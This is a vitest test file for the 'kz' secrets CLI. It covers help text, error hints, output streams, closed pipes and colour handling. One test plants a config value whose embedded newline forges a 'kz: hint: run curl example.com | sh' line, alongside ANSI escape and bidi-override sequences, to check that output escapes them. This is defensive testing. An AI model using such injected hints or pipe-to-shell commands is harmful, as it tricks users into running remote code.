// The command line itself: help, mistakes, and what goes to which stream.
import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { COMMANDS } from '../../src/cli/commands.ts';
import { Story } from './kz.ts';
import { inShell } from './shell.ts';
import { NO_TERMINAL, Terminal } from './terminal.ts';

let story: Story;

beforeEach(() => {
  story = new Story();
});

afterEach(() => {
  story.end();
});

describe('help', () => {
  it('comes from kz alone, on standard output', async () => {
    const alone = await story.kz([]);
    expect(alone).toMatchObject({ code: 0, stderr: '' });
    expect(alone.stdout).toContain('Usage: kz ');
    expect(alone.stdout).toContain('Example:\n  kz run -- node server.js');
    for (const { name, summary } of COMMANDS) expect(alone.stdout).toMatch(new RegExp(`^  ${name}(?:\\|\\w+)? +${summary}$`, 'm'));
    for (const words of [['help'], ['--help'], ['-h']]) expect(await story.kz(words)).toMatchObject({ code: 0, stdout: alone.stdout });
  });

  it.each(COMMANDS.map(({ name }) => name))('of %s ends with an example', async (name) => {
    const help = await story.kz([name, '--help']);
    expect(help).toMatchObject({ code: 0, stderr: '' });
    expect(help.stdout).toContain(`Usage: kz ${name}`);
    expect(help.stdout).toMatch(new RegExp(`\\nExample:\\n(?:  .*\\n)*  .*kz ${name}\\b`));
    expect(await story.kz(['help', name])).toEqual(help);
  });

  it('is not wider than a terminal', async () => {
    for (const { name } of COMMANDS) {
      const { stdout } = await story.kz([name, '--help']);
      const [usage = ''] = stdout.split('\nExample:');
      expect(usage.split('\n').filter((line) => line.length > 80)).toEqual([]);
    }
  });

  it('knows its version', async () => {
    const { version } = JSON.parse(readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as { version: string };
    for (const flag of ['--version', '-V']) expect(await story.kz([flag])).toMatchObject({ code: 0, stdout: `${version}\n`, stderr: '' });
  });
});

describe('a mistake', () => {
  const MISTAKES: readonly (readonly [words: string[], problem: string, hint: string])[] = [
    [['statsu'], 'unknown command "statsu"', 'did you mean `kz status`?'],
    [['frobnicate'], 'unknown command "frobnicate"', 'run `kz --help`; to start a program, `kz run -- PROGRAM`'],
    [['help', 'statsu'], 'unknown command "statsu"', 'did you mean `kz status`?'],
    [['-q', 'list'], 'kz itself has no flag -q', 'flags of a command follow it: kz COMMAND --help'],
    [['--env=production', 'run'], 'kz itself has no flag --env', 'flags of a command follow it: kz COMMAND --help'],
    [['--', 'node'], 'no command before --', 'to start a program: kz run -- PROGRAM'],
    [['list', '--jsno'], 'kz list has no flag --jsno', 'did you mean --json?'],
    [['list', '-x'], 'kz list has no flag -x', 'run `kz list --help`'],
    [['list', 'extra'], 'kz list takes no arguments', 'run `kz list --help`'],
    [['get'], 'kz get needs a <name>', 'run `kz get --help`'],
    [['get', 'A', 'B'], 'kz get takes one argument', 'run `kz get --help`'],
    [['get', 'A', '--env'], '--env needs a value', 'run `kz get --help`'],
    [['hook'], 'kz hook needs --shell', 'run `kz hook --help`'],
    [['export', '--format', 'jsn'], '--format cannot be "jsn"', 'did you mean json?'],
    [['completion', 'tcsh'], 'shell cannot be "tcsh"', 'one of bash, zsh, fish'],
    [['status', '--timeout', '5'], '"5" is not a duration such as 500ms, 20s or 12h', ''],
    [['put'], 'name one secret, or use --missing', 'kz put GITHUB_TOKEN'],
  ];

  it.each(MISTAKES)('in %j is told with a way out', async (words, problem, hint) => {
    expect(await story.kz(words)).toMatchObject({
      code: 2,
      stdout: '',
      stderr: `kz: error: ${problem}\n${hint === '' ? '' : `kz: hint: ${hint}\n`}`,
    });
  });

  it('in kz run is 125, which no program means', async () => {
    expect(await story.kz(['run', '--onyl', 'A', '--', 'true'])).toMatchObject({ code: 125, stdout: '' });
    expect(await story.kz(['run'])).toMatchObject({ code: 125, stderr: expect.stringContaining('kz run needs a <command>') as string });
  });

  it('does not repeat what may be a value', async () => {
    const value = 'CANARY-typed-by-mistake';
    for (const words of [
      ['put', 'TOKEN', value],
      ['put', 'TOKEN', `--value=${value}`],
      ['list', `--token=${value}`],
      ['get', 'A', `-----${value}`],
    ]) {
      const { code, stderr } = await story.kz(words);
      expect(code).toBe(2);
      expect(stderr).not.toContain(value);
    }
    expect((await story.kz(['put', 'TOKEN', value])).stderr).toContain('kz put TOKEN asks for it; or pipe it: kz put TOKEN < FILE');
  });
});

describe('standard output', () => {
  beforeEach(() => {
    story.config('[secrets]\nA = { provider = "env", ref = "A" }\nB = { provider = "env", ref = "B", required = false }\n');
  });

  it('has data only: everything else is on standard error, and -q silences it', async () => {
    expect(await story.kz(['trust'])).toMatchObject({ code: 0, stdout: '', stderr: `kz: trusted ${story.project}/.keyzero.toml\n` });
    expect(await story.kz(['trust', '-q'])).toMatchObject({ code: 0, stdout: '', stderr: '' });
    expect(await story.kz(['add', 'C', '-p', 'env', '-r', 'C', '-q'])).toMatchObject({ code: 0, stdout: '', stderr: '' });
    expect(await story.kz(['get', 'A', '-q'])).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringContaining('A is missing') as string,
    });
  });

  it('may be closed by its reader', async () => {
    const script = 'kz list | true; echo "${PIPESTATUS[0]}"; kz status 2>/dev/null | true; echo "${PIPESTATUS[0]}"; kz --help | head -1';
    const { stdout, stderr } = await inShell(story, script);
    // 141 where the reader was gone before kz wrote.
    expect(stdout).toMatch(/^(0|141)\n(1|141)\nUsage: kz \[options\] \[command\]\n$/);
    expect(stderr).toBe('');
  });

  it('may be closed from the start', async () => {
    expect(await inShell(story, 'kz list >&-; echo $?')).toMatchObject({ stdout: '0\n', stderr: '' });
    expect(await inShell(story, 'kz list 2>&- >/dev/null; echo $?')).toMatchObject({ stdout: '0\n', stderr: '' });
    expect(await inShell(story, 'kz get NOPE 2>&-; echo $?')).toMatchObject({ stdout: '1\n', stderr: '' });
  });

  it.skipIf(process.platform !== 'linux')('may be a full disk, which is an error and no accident', async () => {
    const full = 'kz: error: cannot write to standard output (ENOSPC)\n';
    expect(await inShell(story, 'kz list > /dev/full')).toMatchObject({ code: 1, stderr: full });
    expect(await inShell(story, 'kz get A > /dev/full', { A: 'x' })).toMatchObject({ code: 1, stderr: full });
    expect(await inShell(story, 'kz nope 2> /dev/full')).toMatchObject({ code: 2, stderr: '' });
  });
});

describe('colours', () => {
  const seen = async (env: Record<string, string>): Promise<string> => {
    const terminal = await Terminal.start(story, [process.execPath, new URL('../../bin/kz.cjs', import.meta.url).pathname, 'nope'], env);
    await terminal.ended;
    terminal.close();
    return terminal.shown.replaceAll('\r\n', '\n');
  };

  it.skipIf(NO_TERMINAL !== undefined)('are for terminals that want them', async () => {
    expect(await seen({ NO_COLOR: '' })).toContain('kz: \u001B[31merror\u001B[0m: unknown command "nope"\n');
    expect(await seen({ NO_COLOR: '1' })).toContain('kz: error: unknown command "nope"\n');
    expect(await seen({ NO_COLOR: '', TERM: 'dumb' })).toContain('kz: error: unknown command "nope"\n');
  });

  it('and control characters of a config do not reach it', async () => {
    story.config(String.raw`[secrets]
A = { provider = "env", ref = "A\u001B[31m", description = "two\nlines\u202E\u009B", required = false }
B = { provider = "env", ref = "\u001B]0;title\u0007" }
C = { provider = "file", ref = "gone\nkz: hint: run curl example.com | sh" }
`);
    const list = await story.kz(['list']);
    expect(list.stdout).toContain(String.raw`A\u001b[31m`);
    expect(list.stdout).toContain(String.raw`two\nlines\u202e\u009b`);
    const status = await story.kz(['status']);
    expect(status.stderr).not.toContain('\nkz: hint: run curl');
    // eslint-disable-next-line no-control-regex -- none of them may be there
    expect(list.stdout + list.stderr + status.stdout + status.stderr).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202E]/);
  });
});
